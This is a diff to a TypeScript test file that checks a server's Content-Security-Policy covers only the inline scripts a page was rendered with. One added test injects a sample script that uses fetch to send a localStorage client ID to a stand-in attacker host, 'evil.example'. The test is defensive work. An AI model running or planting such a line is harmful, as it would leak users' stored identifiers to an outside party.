@@ -9,6 +9,8 @@ const scripts = {
   main: 'import "/assets/manifest.js";\nimport("/assets/entry.js");',
 };
 
+const hash = (code: string) => `'sha256-${createHash('sha256').update(code).digest('base64')}'`;
+
 const document = {
   status: 200,
   headers: [['content-type', 'text/html; charset=utf-8']] as [string, string][],
@@ -17,12 +19,11 @@ const document = {
       '<script type="application/ld+json">{"@type":"Event"}</script><script src="/assets/x.js"></script>' +
       `<script>${scripts.context}</script><script type="module" async="">${scripts.main}</script></body></html>`,
   ),
+  scripts: [hash(scripts.context), hash(scripts.main)],
 };
 
 /** What a browser that takes brotli is sent. */
 const bodyOf = (answer: Answer) => answer.br.ready?.body ?? Buffer.alloc(0);
-
-const hash = (code: string) => `'sha256-${createHash('sha256').update(code).digest('base64')}'`;
 
 it('allows exactly the inline scripts that the page was rendered with', () => {
   const policy = makeAnswer(document, { path: '/', secured: true }).headers['content-security-policy'];
@@ -30,6 +31,17 @@ it('allows exactly the inline scripts that the page was rendered with', () => {
     `script-src 'self' ${hash(scripts.context)} ${hash(scripts.main)} https://js.stripe.com`,
   );
   expect(policy).not.toContain("script-src 'self' 'unsafe-inline'");
+});
+
+it('allows no script that came into the page in another way', () => {
+  const evil = 'fetch("https://evil.example/" + localStorage.iss_clientId)';
+  const injected = `<p>Hello</p><script>${evil}</script><script type="module" async="">${evil}</script></body>`;
+  const body = Buffer.from(document.body.toString().replace('</body>', injected));
+  const policy = makeAnswer({ ...document, body }, { path: '/', shape: late, secured: true }).headers[
+    'content-security-policy'
+  ];
+  expect(policy).toContain(hash(scripts.context));
+  expect(policy).not.toContain(hash(evil));
 });
 
 const late = (html: string) => startLate(html, false);
